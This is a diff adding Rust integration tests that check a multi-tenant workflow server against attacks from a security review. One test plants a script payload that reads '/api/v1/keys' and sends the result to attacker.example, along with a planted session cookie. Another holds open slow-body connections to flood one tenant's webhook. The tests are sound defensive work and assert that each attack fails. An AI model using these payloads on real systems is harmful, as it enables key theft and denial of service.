@@ -1,0 +1,496 @@
+//! Attacks from the security review (issue 18), each performed against the
+//! real binary: one tenant taking over another's webhook path, a webhook
+//! answer acting on the UI's origin, keys and members wider than their
+//! maker, a tenant admin granting itself platform actions, and a slow-body
+//! flood on one tenant's webhook.
+
+use std::time::Duration;
+
+use reqwest::Method;
+use serde_json::{Value, json};
+
+use crate::serve::{Server, call, start_with};
+
+async fn api(server: &Server, method: Method, path: &str, key: &str, body: Value) -> (u16, Value) {
+    call(
+        method,
+        &format!("{}{path}", server.api()),
+        Some(key),
+        "application/json",
+        body.to_string(),
+    )
+    .await
+}
+
+/// A workflow stored by `key`; its id.
+async fn push(server: &Server, key: &str, yaml: &str) -> String {
+    let (status, created) = call(
+        Method::POST,
+        &format!("{}/workflows", server.api()),
+        Some(key),
+        "application/yaml",
+        yaml.to_owned(),
+    )
+    .await;
+    assert_eq!(status, 201, "{created}");
+    created["id"].as_str().unwrap().to_owned()
+}
+
+async fn activate(server: &Server, key: &str, id: &str) -> (u16, Value) {
+    api(
+        server,
+        Method::POST,
+        &format!("/workflows/{id}/activate"),
+        key,
+        json!({}),
+    )
+    .await
+}
+
+/// A tenant made by the platform owner; its id and owner key.
+async fn tenant(server: &Server, owner: &str, name: &str) -> (String, String) {
+    let (status, made) = api(
+        server,
+        Method::POST,
+        "/tenants",
+        owner,
+        json!({ "name": name }),
+    )
+    .await;
+    assert_eq!(status, 201, "{made}");
+    (
+        made["id"].as_str().unwrap().to_owned(),
+        made["ownerKey"]["key"].as_str().unwrap().to_owned(),
+    )
+}
+
+/// A workflow whose webhook at `path` answers `{"tenant": <who>}`.
+fn answering(name: &str, path: &str, who: &str) -> String {
+    format!(
+        "name: {name}\nnodes:\n  - {{id: hook, type: webhook, params: {{path: {path}, method: POST}}}}\n  - {{id: answer, type: set, params: {{keepOnlySet: true, fields: {{tenant: {who}}}}}}}\nconnections:\n  - {{from: hook, to: answer}}\n"
+    )
+}
+
+async fn deliver(server: &Server, path: &str) -> (u16, Value) {
+    call(
+        Method::POST,
+        &format!("{}/webhook/{path}", server.base),
+        None,
+        "application/json",
+        "{}".into(),
+    )
+    .await
+}
+
+/// The answer at `path` once it is not 404 (another process hears of an
+/// activation through Redis), polled for at most 30 seconds.
+async fn delivered(server: &Server, path: &str) -> (u16, Value) {
+    for _ in 0..300 {
+        let answer = deliver(server, path).await;
+        if answer.0 != 404 {
+            return answer;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    panic!("POST /webhook/{path} stayed 404");
+}
+
+/// Two tenants activate a workflow on the same webhook path at once, through
+/// `first` and `second` (one process, or two on one database): one holds the
+/// path, the other is refused without learning whose it is, and deliveries
+/// reach only the holder, also after it deactivates.
+async fn one_path_two_tenants(first: &Server, second: &Server) {
+    let owner = first.key.clone();
+    let (_, globex) = tenant(first, &owner, "Globex").await;
+    let acme_flow = push(first, &owner, &answering("acme-stripe", "stripe", "acme")).await;
+    let globex_flow = push(
+        second,
+        &globex,
+        &answering("globex-stripe", "stripe", "globex"),
+    )
+    .await;
+
+    let (acme, globex_answer) = tokio::join!(
+        activate(first, &owner, &acme_flow),
+        activate(second, &globex, &globex_flow)
+    );
+    let mut statuses = [acme.0, globex_answer.0];
+    statuses.sort();
+    assert_eq!(
+        statuses,
+        [200, 409],
+        "one tenant holds the path: {acme:?} {globex_answer:?}"
+    );
+    let (winner, winner_key, winner_flow, loser_key, loser_flow, refused) = if acme.0 == 200 {
+        (
+            "acme",
+            &owner,
+            &acme_flow,
+            &globex,
+            &globex_flow,
+            globex_answer.1,
+        )
+    } else {
+        ("globex", &globex, &globex_flow, &owner, &acme_flow, acme.1)
+    };
+    let message = refused["error"]["message"].as_str().unwrap();
+    assert!(
+        message.contains("POST /webhook/stripe") && message.contains("another tenant"),
+        "{refused}"
+    );
+    assert!(
+        !message.contains("acme-stripe")
+            && !message.contains("globex-stripe")
+            && !message.contains(winner_flow.as_str()),
+        "the refusal does not name another tenant's workflow: {message}"
+    );
+    for server in [first, second] {
+        assert_eq!(
+            delivered(server, "stripe").await,
+            (200, json!({ "tenant": winner }))
+        );
+    }
+
+    // Deactivated, the path stays the holder's: deliveries still on their
+    // way are not handed to the other tenant.
+    let (status, _) = api(
+        first,
+        Method::POST,
+        &format!("/workflows/{winner_flow}/deactivate"),
+        winner_key,
+        json!({}),
+    )
+    .await;
+    assert_eq!(status, 200);
+    let (status, again) = activate(second, loser_key, loser_flow).await;
+    assert_eq!(status, 409, "{again}");
+    assert_eq!(deliver(first, "stripe").await.0, 404);
+
+    // Within its own tenant the holder is named, and an inactive holder's
+    // path passes to the workflow activated now.
+    let successor = push(
+        first,
+        winner_key,
+        &answering("successor", "stripe", "successor"),
+    )
+    .await;
+    let (status, body) = activate(first, winner_key, &successor).await;
+    assert_eq!(status, 200, "{body}");
+    let (status, body) = activate(first, winner_key, winner_flow).await;
+    assert_eq!(status, 409, "{body}");
+    let message = body["error"]["message"].as_str().unwrap();
+    assert!(
+        message.contains("`successor`") && message.contains("deactivate it"),
+        "{message}"
+    );
+    assert_eq!(
+        deliver(first, "stripe").await,
+        (200, json!({ "tenant": "successor" }))
+    );
+}
+
+#[tokio::test]
+async fn a_tenant_cannot_take_over_another_tenants_webhook_path_on_sqlite() {
+    let data = tempfile::tempdir().unwrap();
+    let server = start_with(data.path(), &[]).await;
+    one_path_two_tenants(&server, &server).await;
+}
+
+#[tokio::test]
+async fn a_tenant_cannot_take_over_another_tenants_webhook_path_on_postgresql_across_processes() {
+    let database = n8n_work_store::testing::postgres().await.unwrap();
+    let prefix = format!("n8n-work-test-{}", uuid::Uuid::new_v4().simple());
+    let (first_dir, second_dir) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+    let flags = [
+        "--database-url",
+        database.url.as_str(),
+        "--redis-url",
+        "redis://127.0.0.1:6379",
+        "--redis-prefix",
+        prefix.as_str(),
+    ];
+    let first = start_with(first_dir.path(), &flags).await;
+    let mut second = start_with(second_dir.path(), &flags).await;
+    // Only the first start makes the platform owner's key.
+    second.key = first.key.clone();
+    one_path_two_tenants(&first, &second).await;
+}
+
+#[tokio::test]
+async fn a_webhook_answer_cannot_set_a_cookie_or_run_script_on_the_uis_origin() {
+    let data = tempfile::tempdir().unwrap();
+    let server = start_with(data.path(), &[]).await;
+    // The respond node's headers come from an expression, so no check of the
+    // workflow's text can see them.
+    let page = "
+name: page
+nodes:
+  - {id: hook, type: webhook, params: {path: page, method: POST, respond: responseNode}}
+  - id: reply
+    type: respond
+    params:
+      respondWith: text
+      responseBody: \"<script>fetch('/api/v1/keys').then(r => r.text()).then(t => fetch('https://attacker.example/?' + t))</script>\"
+      headers: '{{ $json.body.headers }}'
+connections:
+  - {from: hook, to: reply}
+";
+    let id = push(&server, &server.key, page).await;
+    let (status, body) = activate(&server, &server.key, &id).await;
+    assert_eq!(status, 200, "{body}");
+    let planted = json!({ "headers": {
+        "Set-Cookie": "n8n_work_session=planted; Path=/",
+        "Content-Security-Policy": "default-src *",
+        "X-Content-Type-Options": "sniff",
+        "Connection": "close, x-forwarded-for",
+        "X-Kept": "yes",
+    }});
+    let client = reqwest::Client::new();
+    let answer = client
+        .post(format!("{}/webhook/page", server.base))
+        .header("content-type", "application/json")
+        .body(planted.to_string())
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(answer.status(), 200);
+    let headers = answer.headers().clone();
+    let text = answer.text().await.unwrap();
+    assert!(text.contains("<script>"), "the page is served: {text}");
+    assert!(
+        headers["content-type"]
+            .to_str()
+            .unwrap()
+            .starts_with("text/html"),
+        "{headers:?}"
+    );
+    assert!(
+        headers.get("set-cookie").is_none(),
+        "no cookie is set: {headers:?}"
+    );
+    assert_eq!(headers["x-kept"], "yes", "other headers pass: {headers:?}");
+    let sandboxed = |headers: &reqwest::header::HeaderMap| {
+        let csp: Vec<&str> = headers
+            .get_all("content-security-policy")
+            .iter()
+            .map(|v| v.to_str().unwrap())
+            .collect();
+        assert_eq!(csp.len(), 1, "{headers:?}");
+        assert!(
+            csp[0].starts_with("sandbox") && !csp[0].contains("allow-same-origin"),
+            "{csp:?}"
+        );
+        assert_eq!(headers["x-content-type-options"], "nosniff", "{headers:?}");
+    };
+    sandboxed(&headers);
+
+    // Errors too: an unknown path, and a trigger's own answer.
+    let missing = client
+        .post(format!("{}/webhook/nowhere", server.base))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(missing.status(), 404);
+    sandboxed(missing.headers());
+    let resumed = client
+        .post(format!("{}/resume/not-a-token", server.base))
+        .header("content-type", "application/json")
+        .body("{}")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resumed.status(), 404);
+    sandboxed(resumed.headers());
+}
+
+#[tokio::test]
+async fn a_key_cannot_make_a_key_or_member_wider_than_its_own_scopes() {
+    let data = tempfile::tempdir().unwrap();
+    let server = start_with(data.path(), &[]).await;
+    let owner = server.key.clone();
+    let (status, made) = api(
+        &server,
+        Method::POST,
+        "/keys",
+        &owner,
+        json!({ "role": "admin", "name": "key maker", "scopes": ["key.write"] }),
+    )
+    .await;
+    assert_eq!(status, 201, "{made}");
+    let narrow = made["key"].as_str().unwrap().to_owned();
+
+    for wider in [json!(["*"]), json!(["workflow.read"]), json!(["key.*"])] {
+        let (status, body) = api(
+            &server,
+            Method::POST,
+            "/keys",
+            &narrow,
+            json!({ "role": "admin", "scopes": wider }),
+        )
+        .await;
+        assert_eq!(status, 403, "{wider}: {body}");
+        let message = body["error"]["message"].as_str().unwrap();
+        assert!(message.contains("key.write"), "{message}");
+    }
+    // Without scopes, a new key gets its maker's.
+    let (status, body) = api(
+        &server,
+        Method::POST,
+        "/keys",
+        &narrow,
+        json!({ "role": "editor" }),
+    )
+    .await;
+    assert_eq!(status, 201, "{body}");
+    assert_eq!(body["scopes"], json!(["key.write"]));
+    let (status, body) = api(
+        &server,
+        Method::POST,
+        "/keys",
+        &narrow,
+        json!({ "role": "viewer", "scopes": ["key.write"] }),
+    )
+    .await;
+    assert_eq!(status, 201, "as narrow is fine: {body}");
+
+    // A member's sessions may do all its role allows: a scoped key cannot
+    // add one.
+    let (status, body) = api(
+        &server,
+        Method::POST,
+        "/members",
+        &narrow,
+        json!({ "email": "mallory@example.com", "role": "admin" }),
+    )
+    .await;
+    assert_eq!(status, 403, "{body}");
+    let (status, body) = api(
+        &server,
+        Method::POST,
+        "/members",
+        &owner,
+        json!({ "email": "ada@example.com", "role": "admin" }),
+    )
+    .await;
+    assert_eq!(status, 201, "{body}");
+}
+
+#[tokio::test]
+async fn the_platform_tenants_admin_cannot_grant_itself_platform_actions() {
+    let data = tempfile::tempdir().unwrap();
+    let server = start_with(data.path(), &[]).await;
+    let (status, made) = api(
+        &server,
+        Method::POST,
+        "/keys",
+        &server.key,
+        json!({ "role": "admin", "name": "admin" }),
+    )
+    .await;
+    assert_eq!(status, 201, "{made}");
+    let admin = made["key"].as_str().unwrap().to_owned();
+    let grant = r#"permit (principal, action in [N8nWork::Action::"tenant.create", N8nWork::Action::"vault.rotate", N8nWork::Action::"tenant.limits"], resource);"#;
+    let (status, body) = api(
+        &server,
+        Method::PUT,
+        "/policies",
+        &admin,
+        json!({ "text": grant }),
+    )
+    .await;
+    assert_eq!(status, 200, "an admin writes its tenant's policies: {body}");
+    for (method, path, body) in [
+        (Method::POST, "/tenants", json!({ "name": "Shadow" })),
+        (Method::GET, "/vault", Value::Null),
+        (Method::POST, "/vault/rotate", json!({})),
+        (
+            Method::PUT,
+            "/limits",
+            json!({ "tenant": "default", "requestsPerSecond": 1000000 }),
+        ),
+    ] {
+        let (status, answer) = api(&server, method.clone(), path, &admin, body).await;
+        assert_eq!(status, 403, "{method} {path}: {answer}");
+    }
+    // The platform owner still may.
+    let (status, body) = api(
+        &server,
+        Method::POST,
+        "/tenants",
+        &server.key,
+        json!({ "name": "Real" }),
+    )
+    .await;
+    assert_eq!(status, 201, "{body}");
+}
+
+/// A request to `path` that declares a body and sends one byte of it,
+/// then holds the connection open.
+async fn slow_body(base: &str, path: &str) -> tokio::net::TcpStream {
+    use tokio::io::AsyncWriteExt;
+    let address = base.trim_start_matches("http://");
+    let mut stream = tokio::net::TcpStream::connect(address).await.unwrap();
+    stream
+        .write_all(
+            format!(
+                "POST /webhook/{path} HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{{"
+            )
+            .as_bytes(),
+        )
+        .await
+        .unwrap();
+    stream
+}
+
+#[tokio::test]
+async fn a_slow_body_flood_on_one_tenants_webhook_leaves_another_tenants_answering() {
+    let data = tempfile::tempdir().unwrap();
+    // Bodies may take long here, so the flood is still open when the other
+    // tenant's delivery is answered.
+    let env = [(
+        "N8N_WORK_WEBHOOK_BODY_TIMEOUT_SECS".to_owned(),
+        "600".to_owned(),
+    )];
+    let server = crate::serve::start_env(data.path(), &["--max-in-flight", "8"], &env).await;
+    let owner = server.key.clone();
+    let (_, globex) = tenant(&server, &owner, "Globex").await;
+    let flooded = push(&server, &owner, &answering("flooded", "flooded", "acme")).await;
+    let calm = push(&server, &globex, &answering("calm", "calm", "globex")).await;
+    for (key, id) in [(&owner, &flooded), (&globex, &calm)] {
+        let (status, body) = activate(&server, key, id).await;
+        assert_eq!(status, 200, "{body}");
+    }
+
+    // As many slow bodies as the whole server admits, all on one tenant's
+    // path; the tenant's own deliveries are refused once they hold its
+    // places.
+    let mut flood = Vec::new();
+    for _ in 0..8 {
+        flood.push(slow_body(&server.base, "flooded").await);
+    }
+    let mut saturated = false;
+    for _ in 0..300 {
+        if deliver(&server, "flooded").await.0 == 429 {
+            saturated = true;
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    assert!(saturated, "the flood fills the tenant's places");
+
+    assert_eq!(
+        deliver(&server, "calm").await,
+        (200, json!({ "tenant": "globex" })),
+        "the other tenant is answered during the flood"
+    );
+    // Some of the flood is still being read, unanswered.
+    let mut open = 0;
+    let mut buffer = [0u8; 1];
+    for stream in &flood {
+        if matches!(stream.try_read(&mut buffer), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock)
+        {
+            open += 1;
+        }
+    }
+    assert!(open > 0, "the slow bodies are still open");
+}
